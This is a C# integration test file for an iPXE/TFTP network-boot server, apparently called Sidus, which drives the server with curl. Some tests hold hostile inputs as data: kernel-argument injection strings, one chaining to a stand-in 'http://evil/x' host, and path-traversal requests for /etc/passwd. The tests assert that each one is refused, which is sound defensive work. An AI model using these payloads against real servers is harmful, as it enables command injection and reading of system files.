using System.Text;
using System.Text.Json;
using Sidus.Nodes;

namespace Sidus.Server.Tests;

/// <summary>The real host on loopback, driven by curl (a client we did not write).</summary>
public sealed class HttpBootTests(ServerFixture f) : IClassFixture<ServerFixture>
{
    private static string Text(byte[] body) => Encoding.UTF8.GetString(body);

    /// <summary>Mode install boots the Sidus agent (which installs): a server that cannot make its initramfs says so and asks again.</summary>
    [Fact]
    public async Task Script_InstallNode_NeedsTheAgent_SaysWhyItCannotBoot()
    {
        var (status, body, headers) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(1)}.ipxe");
        var script = Text(body);
        Assert.Equal(200, status);
        Assert.StartsWith("#!ipxe\n", script, StringComparison.Ordinal);
        Assert.DoesNotContain(script.Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));
        Assert.Contains("node n1: ", script, StringComparison.Ordinal);
        Assert.Contains("content-length: " + body.Length, headers, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(f.Log.Lines, l => l.Contains("Script for 52:54:00:00:01:01", StringComparison.Ordinal) && l.Contains("no Sidus initramfs", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Script_ColonMacInUrl_IsTheSameNode()
    {
        var (status, body, _) = await Tools.CurlAsync($"{f.Http}/boot/52:54:00:00:01:01.ipxe");
        Assert.Equal(200, status);
        Assert.Contains("node n1: ", Text(body), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Script_LocalNode_ExitsToLocalDisk()
    {
        var (status, body, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(2)}.ipxe");
        Assert.Equal(200, status);
        Assert.Equal("#!ipxe\necho Sidus: n2: booting from the local disk\nexit 1\n", Text(body));
    }

    [Fact]
    public async Task Script_MenuNode_OffersChoicesAndAChoiceBoots()
    {
        var (_, body, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(3)}.ipxe");
        var menu = Text(body);
        Assert.Contains("menu Sidus: n3 (52:54:00:00:01:03), image deb", menu, StringComparison.Ordinal);
        Assert.Contains("item ram Boot deb into RAM", menu, StringComparison.Ordinal);
        Assert.Contains("choose --timeout 15000 --default local target || goto failed", menu, StringComparison.Ordinal);
        Assert.Contains($"chain /boot/{ServerFixture.UrlMac(3)}.ipxe?mode=shared || goto failed", menu, StringComparison.Ordinal);

        var (_, chosen, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(3)}.ipxe?mode=install");
        Assert.Contains("node n3: ", Text(chosen), StringComparison.Ordinal);
        Assert.Contains($"/boot/{ServerFixture.UrlMac(3)}.ipxe?attempt=2", Text(chosen), StringComparison.Ordinal);

        var (bad, _, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(3)}.ipxe?mode=reboot-everything");
        Assert.Equal(400, bad);
    }

    [Fact]
    public async Task Script_UnknownMachine_AsksAgainABoundedNumberOfTimes()
    {
        var (status, body, _) = await Tools.CurlAsync($"{f.Http}/boot/52-54-00-ff-ff-01.ipxe");
        var first = Text(body);
        Assert.Equal(200, status);
        Assert.Contains("is not in the Sidus inventory. Add it with: sidus node add NAME --mac 52:54:00:ff:ff:01", first, StringComparison.Ordinal);
        Assert.Contains("chain /boot/52-54-00-ff-ff-01.ipxe?attempt=2 ||", first, StringComparison.Ordinal);

        // AskAgainAttempts is 2 in the fixture: the third ask is the last, and it leaves iPXE.
        var (_, last, _) = await Tools.CurlAsync($"{f.Http}/boot/52-54-00-ff-ff-01.ipxe?attempt=3");
        Assert.DoesNotContain("chain", Text(last), StringComparison.Ordinal);
        Assert.Contains("Gave up after 2 tries", Text(last), StringComparison.Ordinal);
        Assert.EndsWith("exit 1\n", Text(last), StringComparison.Ordinal);
        Assert.Contains(f.Log.Lines, l => l.Contains("52:54:00:ff:ff:01", StringComparison.Ordinal) && l.Contains("unknown machine", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Script_ImageMissing_SaysSoAndAsksAgain()
    {
        var (_, body, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(4)}.ipxe");
        Assert.Contains("node n4: image nosuchimage cannot be booted", Text(body), StringComparison.Ordinal);
        Assert.Contains("?attempt=2", Text(body), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Script_KernelArgsTheScriptCannotHold_AreRefused()
    {
        var (_, body, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(5)}.ipxe");
        var script = Text(body);
        Assert.DoesNotContain(script.Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));
        Assert.Contains("characters long, at most 1536 fit", script, StringComparison.Ordinal);
        Assert.DoesNotContain(ServerFixture.LongKernelArgs, script, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("quiet || shell")]
    [InlineData("a ; shell")]
    [InlineData("quiet # rest")]
    [InlineData("quiet\nshell")]
    [InlineData("quiet ${shell}")]
    [InlineData("quiet\rchain http://evil/x")]
    public async Task KernelArgs_InjectionAttempts_RejectedByTheInventory(string args)
    {
        await Assert.ThrowsAsync<InventoryException>(() => f.Inventory.EditAsync(e =>
            e.AddNodeAsync(new Node { Name = "evil", Macs = [ServerFixture.Mac(99)], Settings = new NodeSettings { Image = "deb", KernelArgs = args } })));
    }

    [Fact]
    public async Task ChainEntry_ChainsToTheMachinesOwnScript()
    {
        var (status, body, _) = await Tools.CurlAsync($"{f.Http}/boot/ipxe");
        Assert.Equal(200, status);
        Assert.Equal("#!ipxe\nchain /boot/${netX/mac:hexhyp}.ipxe ||\necho Sidus: this machine's boot script could not be fetched; leaving iPXE\nexit 1\n", Text(body));
    }

    [Fact]
    public async Task Kernel_GetHeadAndRange_AreByteExact()
    {
        var ticket = NodeSessions.Ticket(f.Server, ServerFixture.Mac(0x31), f.VersionId);
        var url = $"{f.Http}/images/{f.VersionId}/vmlinuz?ticket={ticket}";
        var (status, whole, headers) = await Tools.CurlAsync(url);
        Assert.Equal(200, status);
        Assert.Equal(f.Kernel, whole);
        Assert.Contains("cache-control: private, max-age=31536000, immutable", headers, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("location:", headers, StringComparison.OrdinalIgnoreCase);

        var (headStatus, _, head) = await Tools.CurlAsync(url, "-I");
        Assert.Equal(200, headStatus);
        Assert.Contains($"content-length: {f.Kernel.Length}", head, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("accept-ranges: bytes", head, StringComparison.OrdinalIgnoreCase);

        var (rangeStatus, part, rangeHeaders) = await Tools.CurlAsync(url, "-r", "1000000-2099999");
        Assert.Equal(206, rangeStatus);
        Assert.Equal(f.Kernel.AsSpan(1_000_000, 1_100_000).ToArray(), part);
        Assert.Contains($"content-range: bytes 1000000-2099999/{f.Kernel.Length}", rangeHeaders, StringComparison.OrdinalIgnoreCase);

        var (_, tail, _) = await Tools.CurlAsync(url, "-r", "-100");
        Assert.Equal(f.Kernel.AsSpan(f.Kernel.Length - 100).ToArray(), tail);

        var (outside, _, outsideHeaders) = await Tools.CurlAsync(url, "-r", "5000000-6000000");
        Assert.Equal(416, outside);
        Assert.Contains($"content-range: bytes */{f.Kernel.Length}", outsideHeaders, StringComparison.OrdinalIgnoreCase);

        var (initrdStatus, initrd, _) = await Tools.CurlAsync($"{f.Http}/images/{f.VersionId}/initrd?ticket={ticket}");
        Assert.Equal(200, initrdStatus);
        Assert.Equal(f.Initrd, initrd);
    }

    [Fact]
    public async Task Events_ScriptKernelAndReported_ShowInNodeStatus()
    {
        Assert.Equal(200, (await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(1)}.ipxe")).Status);
        var ticket = NodeSessions.Ticket(f.Server, ServerFixture.Mac(1), f.VersionId);
        Assert.Equal(200, (await Tools.CurlAsync($"{f.Http}/images/{f.VersionId}/vmlinuz?ticket={ticket}")).Status);
        var session = await NodeSessions.ClaimAsync(f.Http, ticket);
        Assert.Equal(200, session.Status);
        var (status, body, _) = await Tools.CurlAsync(
            $"{f.Http}/api/nodes/{ServerFixture.UrlMac(1)}/events", [.. NodeSessions.Bearer(session.Body), "-X", "POST", "-H", "Content-Type: application/json",
            "--data", "{\"stage\":\"up\",\"detail\":\"login prompt\"}"]);
        Assert.Equal(202, status);
        Assert.Equal("recorded\n", Text(body));

        var (refused, _, _) = await Tools.CurlAsync($"{f.Http}/api/nodes/{ServerFixture.UrlMac(1)}/events", [.. NodeSessions.Bearer(session.Body), "-X", "POST", "--data", "stage=teleported"]);
        Assert.Equal(400, refused);

        JsonElement n1 = default;
        await Tools.EventuallyAsync(async () =>
        {
            var r = await Tools.SidusAsync(f.Home, "node", "status", "n1", "--json");
            Assert.True(r.ExitCode == 0, r.Err);
            n1 = JsonDocument.Parse(r.Out).RootElement[0];
            return n1.GetProperty("stage").GetString() == "up";
        }, TimeSpan.FromSeconds(15), "the 'up' event reaching sidus node status");
        var stages = n1.GetProperty("stages").EnumerateArray().Select(s => s.GetProperty("stage").GetString()).ToList();
        Assert.Contains("script", stages);
        Assert.Contains("kernel", stages);
        Assert.Equal("login prompt", n1.GetProperty("detail").GetString());
    }

    [Fact]
    public async Task Inventory_NodeAddedWhileServing_IsBootedWithoutRestart()
    {
        var (_, before, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(42)}.ipxe");
        Assert.Contains("not in the Sidus inventory", Text(before), StringComparison.Ordinal);

        var add = await Tools.SidusAsync(f.Home, "node", "add", "late", "--mac", ServerFixture.Mac(42).ToString(), "--image", "deb", "--mode", "install");
        Assert.True(add.ExitCode == 0, add.Err);
        await Tools.EventuallyAsync(async () =>
        {
            var (_, after, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(42)}.ipxe");
            return Text(after).Contains("node late: ", StringComparison.Ordinal);
        }, TimeSpan.FromSeconds(10), "the new node being served");
        Assert.Contains(f.Log.Lines, l => l.Contains("Inventory reloaded", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Api_NodesStatusHealth_AnswerJson()
    {
        var (status, body, _) = await Tools.CurlAsync($"{f.Http}/api/nodes", Tools.Bearer(f.AdminToken));
        Assert.Equal(200, status);
        var nodes = JsonDocument.Parse(body).RootElement;
        var n1 = nodes.EnumerateArray().Single(n => n.GetProperty("name").GetString() == "n1");
        Assert.Equal("deb", n1.GetProperty("effective").GetProperty("image").GetProperty("value").GetString());
        Assert.Equal("node", n1.GetProperty("effective").GetProperty("image").GetProperty("from").GetString());

        var (s2, statusBody, _) = await Tools.CurlAsync($"{f.Http}/api/status", Tools.Bearer(f.AdminToken));
        Assert.Equal(200, s2);
        Assert.True(JsonDocument.Parse(statusBody).RootElement.GetProperty("tftp").GetProperty("enabled").GetBoolean());

        var (s3, health, _) = await Tools.CurlAsync($"{f.Http}/healthz");
        Assert.Equal(200, s3);
        Assert.StartsWith("ok inventory ", Text(health), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/boot/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/boot/..%2f..%2fetc%2fpasswd.ipxe")]
    [InlineData("/boot/52-54-00-00-01-01%00.ipxe")]
    [InlineData("/boot/%252e%252e%252fetc.ipxe")]
    [InlineData("/images/..%2f..%2f..%2fetc/passwd")]
    [InlineData("/images/0000000000000000000000000000000000000000000000000000000000000000/vmlinuz")]
    [InlineData("/images/zz/vmlinuz")]
    [InlineData("//boot//ipxe/../../etc/passwd")]
    public async Task HostilePaths_AreRefusedAndTheServerGoesOn(string path)
    {
        var (status, body, headers) = await Tools.CurlAsync(f.Http + path);
        Assert.InRange(status, 400, 499);
        Assert.DoesNotContain("root:", Text(body), StringComparison.Ordinal);
        Assert.DoesNotContain("location:", headers, StringComparison.OrdinalIgnoreCase);
        var (ok, _, _) = await Tools.CurlAsync($"{f.Http}/healthz");
        Assert.Equal(200, ok);
    }

    [Fact]
    public async Task OversizedHeaders_AreRefusedWith431()
    {
        var (status, _, _) = await Tools.CurlAsync($"{f.Http}/boot/ipxe", "-H", "X-Big: " + new string('a', 40_000));
        Assert.Equal(431, status);
        var (ok, _, _) = await Tools.CurlAsync($"{f.Http}/boot/ipxe");
        Assert.Equal(200, ok);
    }

    [Fact]
    public async Task HostileRange_IsAnsweredSafely()
    {
        var url = $"{f.Http}/images/{f.VersionId}/vmlinuz?ticket={NodeSessions.Ticket(f.Server, ServerFixture.Mac(0x32), f.VersionId)}";
        var (overflow, body, _) = await Tools.CurlAsync(url, "-H", "Range: bytes=99999999999999999999999-");
        Assert.Equal(200, overflow);
        Assert.Equal(f.Kernel.Length, body.Length);
        var (many, manyBody, _) = await Tools.CurlAsync(url, "-H", "Range: bytes=0-1,5-6,9-10");
        Assert.Equal(200, many);
        Assert.Equal(f.Kernel, manyBody);
    }

    [Fact]
    public async Task Tftp_UndionlyFromTheIpxePackage_IsByteExact()
    {
        var expected = await File.ReadAllBytesAsync("/usr/lib/ipxe/undionly.kpxe");
        var r = await Tools.RunAsync("curl", ["-sS", "--max-time", "30", "--tftp-blksize", "1468", $"tftp://127.0.0.1:{f.TftpPort}/undionly.kpxe"]);
        Assert.True(r.ExitCode == 0, r.Err);
        Assert.Equal(expected, r.Out);

        var local = Path.Combine(f.Home, "snponly.efi");
        var hpa = await Tools.RunAsync("tftp", ["-m", "binary", "127.0.0.1", f.TftpPort.ToString(System.Globalization.CultureInfo.InvariantCulture), "-c", "get", "snponly.efi", local]);
        Assert.True(hpa.ExitCode == 0, hpa.Err);
        Assert.Equal(await File.ReadAllBytesAsync("/usr/lib/ipxe/snponly.efi"), await File.ReadAllBytesAsync(local));

        var missing = await Tools.RunAsync("curl", ["-sS", "--max-time", "30", $"tftp://127.0.0.1:{f.TftpPort}/../../etc/passwd"]);
        Assert.NotEqual(0, missing.ExitCode);
    }
}
